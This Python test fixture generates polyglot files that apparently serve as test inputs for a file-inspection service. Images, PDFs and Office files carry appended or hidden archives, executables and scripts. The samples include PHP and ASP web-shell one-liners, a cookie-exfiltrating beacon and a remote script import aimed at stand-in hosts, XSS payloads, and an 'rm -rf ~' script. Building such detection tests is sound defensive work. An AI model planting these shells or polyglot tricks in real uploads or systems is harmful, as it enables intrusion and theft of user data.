"""Files that are two things at once, made by joining formats. What stands first and what hides is in each name."""

from __future__ import annotations

import bz2
import gzip
import hashlib
import io
import lzma
import struct
import tarfile
import zlib
from collections.abc import Iterator, Mapping
from functools import cache

from tests.inspection.files import archive, chunk, doc, gif, jpeg, ooxml, pdf, png, program, segment

NAME, WORDS = b"payload.txt", b"words that nobody sees\n"
ZIP = archive({"hello.txt": b"hello " * 20, "run.js": b"alert(1)"})
RAR = b"Rar!\x1a\x07\x00" + b"\xcf\x90\x73\x00\x00\x0d\x00\x00\x00\x00\x00\x00\x00" + bytes(40)
RAR5 = b"Rar!\x1a\x07\x01\x00" + b"\x33\x92\xb5\xe5\x0a\x01\x05\x06\x00\x05\x01\x01\x80\x80\x00" + bytes(40)
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHL", 2, 62, 1) + bytes(100)
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
PHP = b"<?php system($_GET['c']); ?>"
JAVA = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(100)
SHORTCUT = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60)
HTA = b"<hta:application id=x><script language=vbscript>x = 1</script>"
WASM = b"\0asm\x01\0\0\0" + bytes(30)


CODE = (
    b"=1;alert(1)",
    b'=window["x"]=1',
    b'=0;fetch("//x")',
    b'=0;new Image().src="//x/"+document["cookie"]',
    b'=0\nimport("//evil/x.js")',
    b"=0,location=name",
    b"[0];x.y.z`a`",
)
"""What makes a script of a picture, with and without calls of well-known names."""


def seven_zip() -> bytes:
    start = struct.pack("<QQL", 0, 0, 0)
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<L", zlib.crc32(start)) + start


def arj() -> bytes:
    header = bytes([30, 6, 1, 2, 0, 0, 2, 0]) + bytes(22) + b"a.arj\0\0"
    return b"\x60\xea" + struct.pack("<H", len(header)) + header + struct.pack("<L", zlib.crc32(header)) + bytes(4)


def ace() -> bytes:
    header = b"\0\0\x90**ACE**\x14\x14\2\0" + bytes(12) + b"\0"
    return struct.pack("<2H", ~zlib.crc32(header) & 0xFFFF, len(header)) + header


def lha() -> bytes:
    head = b"-lh0-" + struct.pack("<3L2B", len(WORDS), len(WORDS), 0x58000000, 0x20, 0) + bytes([len(NAME)]) + NAME
    head += struct.pack("<H", _crc16(WORDS))
    return bytes([len(head), sum(head) & 0xFF]) + head + WORDS + b"\0"


def _crc16(data: bytes) -> int:
    register = 0
    for byte in data:
        register ^= byte
        for _ in range(8):
            register = register >> 1 ^ (0xA001 if register & 1 else 0)
    return register


def tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as made:
        entry = tarfile.TarInfo("hello.txt")
        entry.size = 5
        made.addfile(entry, io.BytesIO(b"hello"))
    return out.getvalue()


def second_files() -> dict[str, bytes]:
    return {
        "zip": ZIP,
        "jar": archive({"META-INF/MANIFEST.MF": b"Main-Class: Evil\n", "Evil.class": JAVA}),
        "docx": ooxml("docx"),
        "rar": RAR,
        "rar5": RAR5,
        "7z": seven_zip(),
        "arj": arj(),
        "tar": tar(),
        "gzip": gzip.compress(b"hello", mtime=0),
        "bzip2": bz2.compress(b"hello"),
        "xz": lzma.compress(b"hello"),
        "cab": b"MSCF" + bytes(4) + struct.pack("<L", 100) + bytes(90),
        "elf": ELF,
        "exe": program(),
        "class": JAVA,
        "ole": doc(),
        "html": HTML,
        "php": PHP,
        "rtf": b"{\\rtf1\\ansi hello}",
        "flash": b"FWS\x0a" + bytes(60),
        "shell": b"#!/bin/sh\nrm -rf ~\n",
    }


def php_archive(before: bytes = b"") -> bytes:
    """A file that PHP opens as an archive of its own (`phar://`), with `a.php` packed in it so that no tag shows."""
    code = b"<?php echo 'acted', ' on it';"
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(code) + packer.flush()
    sizes = struct.pack("<6L", len(code), 0, len(packed), zlib.crc32(code), 0o644 | 0x1000, 0)
    listed = struct.pack("<LHLLL", 1, 0x11, 0x10000, 0, 0) + struct.pack("<L", 5) + b"a.php" + sizes
    made = before + b"__HALT_COMPILER(); ?>\r\n" + struct.pack("<L", len(listed)) + listed + packed
    return made + hashlib.sha1(made).digest() + b"\2\0\0\0GBMB"


def disks() -> dict[str, bytes]:
    """Images of disks, whose first bytes are free: a table of partitions, and what is known by its own fields."""
    parted = bytearray(80 * 1024)
    parted[446:462] = struct.pack("<4B4B2L", 0x80, 0, 2, 0, 0x83, 0, 0, 0, 100, 40)
    parted[510:512] = b"\x55\xaa"
    tabled = parted[:512] + b"EFI PART\0\0\1\0" + parted[524:]
    linux = bytearray(80 * 1024)
    struct.pack_into("<2L12x2L28x2HL12xL", linux, 1024, 16, 80, 1, 0, 0xEF53, 1, 1, 1)
    dos = bytearray(80 * 1024)
    struct.pack_into("<HBHBHHB", dos, 11, 512, 4, 1, 2, 512, 160, 0xF8)
    mac = bytearray(80 * 1024)
    mac[1024:1028] = b"H+\0\4"
    read_only, unix, minix, old_disc = (bytearray(80 * 1024) for _ in range(4))
    read_only[1024:1028] = b"\xe2\xe1\xf5\xe0"
    unix[0x255C:0x2560] = b"\x54\x19\x01\0"
    struct.pack_into("<6HL2H", minix, 1024, 32, 100, 1, 1, 9, 0, 1 << 20, 0x137F, 1)
    old_disc[0x8009:0x800F] = b"CDROM\1"
    made = {"parted": parted, "efi": tabled, "ext": linux, "fat": dos, "hfs": mac}
    made |= {"erofs": read_only, "ufs": unix, "minix": minix, "high sierra": old_disc}
    return {kind: bytes(image) for kind, image in made.items()}


def further_files() -> dict[str, bytes]:
    """More of them: signatures that begin with padding, marks at the end, text that a program or a server runs."""
    icon = b"\0\0\x01\0\x01\0" + struct.pack("<4B2H2L", 16, 16, 0, 0, 1, 32, 40, 22) + bytes(40)
    disc = bytearray(40_000)
    disc[0x8000:0x8007] = b"\x01CD001\x01"
    return {
        "wasm": WASM,
        "icon": icon,
        "iso": bytes(disc),
        "pcapng": b"\n\r\r\n\x1c\0\0\0\x4d\x3c\x2b\x1a\x01\0\0\0" + b"\xff" * 8 + b"\x1c\0\0\0",
        "jpeg 2000": b"\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 " + bytes(20),
        "dicom": bytes(128) + b"DICM\x02\0\0\0UL\x04\0" + bytes(40),
        "dmg": bytes(200) + b"koly" + struct.pack(">LL", 4, 512) + bytes(500),
        "vhd": bytes(1024) + b"conectix" + struct.pack(">LL", 2, 0x10000) + bytes(496),
        "shortcut": SHORTCUT,
        "help": b"ITSF\x03\0\0\0`\0\0\0" + bytes(80),
        "onenote": bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(100),
        "wim": b"MSWIM\0\0\0\xd0\0\0\0" + bytes(200),
        "squashfs": b"hsqs" + bytes(92),
        "cpio": b"070701" + b"0" * 86 + b"00" + b"0000000B" + b"0" * 8 + b"TRAILER!!!\0",
        "lzh": lha(),
        "zstd": b"\x28\xb5\x2f\xfd\x04\0" + bytes(20),
        "postscript": b"%!PS-Adobe-3.0\nshowpage\n",
        "hta": HTA,
        "page": b"<body onload=alert(1)>",
        "picture of a page": b"<img src=x onerror=alert(1)>",
        "asp": b'<%@ language="vbscript" %><% execute(request("c")) %>',
        "short php": b"<?=`$_GET[0]`?>",
        "php's archive": php_archive(),
    }


def programs_as_text() -> dict[str, bytes]:
    """Nothing runs them behind another file: their programs read from the beginning, and stop at what stands there."""
    return {
        "batch": b"\r\n@echo off\r\ncalc.exe\r\n",
        "vbs": b'\r\nCreateObject("WScript.Shell").Run "calc"\r\n',
        "javascript": b"\n/*x*/alert(1)//",
        "python": b'\nimport os\nos.system("id")\n',
        "web archive": b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n",
    }


def unlisted_files() -> dict[str, bytes]:
    """Formats that have no line in any table of the service."""
    noise = bytes(range(1, 32))
    return {
        "python bytecode": b"\x61\x0d\x0d\x0a" + bytes(4) + noise + bytes(40),
        "e-book": b"a".ljust(60, b"\0") + b"BOOKMOBI" + noise + bytes(60),
        "event log": b"ElfFile\0" + bytes(24) + b"\x80\0\0\0\x01\0\x03\0" + bytes(60),
        "scene": b"BLENDER-v280RENDH" + noise + bytes(60),
        "model": b"glTF\x02\0\0\0" + bytes(60),
        "encrypted disk": b"LUKS\xba\xbe\0\x01aes" + bytes(60),
        "torrent": b"d8:announce35:udp://tracker.example.org:80" + noise,
        "program database": b"Microsoft C/C++ MSF 7.00\r\n\x1aDS\0\0\0" + bytes(60),
    }


SEPARATORS = {
    "": b"",
    "zeros ": bytes(64),
    "lines ": b"\r\n\r\n",
    "ones ": b"\xff" * 16,
    "junk ": b"junk ",
    "noise ": bytes(range(160, 200)) * 3,
}


def joined() -> dict[str, bytes]:
    """A second file behind a whole one, however far, and whatever stands between them."""
    seconds = second_files() | further_files() | unlisted_files()
    del seconds["shell"]  # behind anything but padding nothing runs it
    return {
        f"{first}+{between}{second}": data + separator + payload
        for first, data in {"png": png(), "jpg": jpeg(), "gif": gif(), "pdf": pdf()}.items()
        for between, separator in SEPARATORS.items()
        for second, payload in seconds.items()
    }


def unopened() -> dict[str, bytes]:
    """What no program opens as a second file: it is told, and accepted."""
    return {
        f"{first}+{second}": data + payload
        for first, data in {"png": png(), "jpg": jpeg(), "gif": gif(), "pdf": pdf()}.items()
        for second, payload in programs_as_text().items()
    }


def film(content: bytes) -> bytes:
    """As a phone puts it behind a photo."""
    kind = b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom"
    return kind + struct.pack(">L", 8 + len(content)) + b"mdat" + content + b"\0\0\0\x08moov"


def appended() -> Iterator[tuple[str, bytes]]:
    """A second file behind a whole one: the oldest trick."""
    for first, data in {"png": png(), "jpg": jpeg(), "gif": gif(), "pdf": pdf()}.items():
        for second, payload in second_files().items():
            yield f"{first}+{second}", data + payload
            yield f"{first}+padding+{second}", data + bytes(64) + payload
    for first, data in {"png": png(), "jpg": jpeg(), "gif": gif()}.items():
        yield f"{first}+pdf", data + pdf()
    for second in ("zip", "rar", "7z", "elf", "exe", "html", "ole"):
        yield f"docx+{second}", ooxml("docx") + second_files()[second]
        yield f"doc+{second}", doc() + second_files()[second]


def hidden() -> Iterator[tuple[str, bytes]]:
    """A second file in a comment, in metadata or in a block that no viewer shows."""
    for second in ("zip", "jar", "rar", "rar5", "7z", "arj", "elf", "exe", "html", "php"):
        payload = second_files()[second]
        yield f"png[{second}]", png(extra=chunk(b"cOMm", payload))
        if second != "html":  # in a field for words it is words
            yield f"jpg[{second}]", jpeg(segment(0xFE, payload[:60_000]))
        if second != "html" and len(payload) < 256:  # in one block, so that nothing stands between its bytes
            yield f"gif[{second}]", gif(payload)
        yield (
            f"pdf[{second}]",
            pdf(b"9 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(payload), payload)),
        )
    yield "png[pdf]", png(extra=chunk(b"cOMm", pdf()))
    yield "jpg[pdf]", jpeg(segment(0xFE, pdf()))


def placed() -> Iterator[tuple[str, bytes]]:
    """A second format whose signature stands at a fixed place, far into the file."""
    dicom = bytearray(png(extra=chunk(b"cOMm", bytes(200))))
    dicom[128:132] = b"DICM"
    yield "png+dicom", bytes(dicom)
    disc = jpeg(segment(0xFE, bytes(60_000))) + bytes(40_000)
    yield "jpg+iso", disc[:0x8001] + b"CD001" + disc[0x8006:]
    tape = bytearray(gif(bytes(600)))
    tape[257:262] = b"ustar"
    yield "gif+tar", bytes(tape)
    paper = bytearray(pdf(b"%" + bytes(40_000) + b"\n"))
    paper[0x8001:0x8006] = b"CD001"
    yield "pdf+iso", bytes(paper)


def scripts() -> Iterator[tuple[str, bytes]]:
    """Pictures that a browser runs when a page names them as its script, and documents that begin as one."""
    yield "gif+js behind", gif(width=0x2A2F) + b"*/=1;alert(1)"
    yield "gif+js comment", gif(b"*/=1;alert(document.domain)/*", width=0x2A2F)
    for number, code in enumerate(CODE):
        yield f"gif+js {number}", gif(width=0x2A2F) + b"*/" + code
    yield "gif+js assigned", b"GIF89a=1/*" + gif(b"*/;fetch(name)//")[10:]
    yield "gif+js string", b"GIF89a=`" + gif(width=0x603D)[8:] + b"`;fetch(name)"
    yield "gif+js template", gif(width=0x60) + b"`;function GIF89a(){fetch(name)}"
    yield "jpg+js", b"\xff\xd8\xff\xe0/*" + jpeg()[6:20].ljust(0x2F2A - 2, b"\0") + jpeg()[20:] + b"*/=alert(1)/*"
    yield "html+pdf", HTML + b"\n" + pdf()
    yield "sh+pdf", b"#!/bin/sh\nexit\n" + pdf()
    yield "exe+pdf", program() + pdf()
    yield "js+pdf", b"/*" + pdf()[:30] + b"*/eval(atob('YWxlcnQoMSk='));/*\n" + pdf() + b"*/"
    yield "zip+docx", ZIP + ooxml("docx")
    yield "exe+docx", program() + ooxml("docx")


@cache
def polyglots() -> Mapping[str, bytes]:
    return dict([*appended(), *hidden(), *placed(), *scripts()])
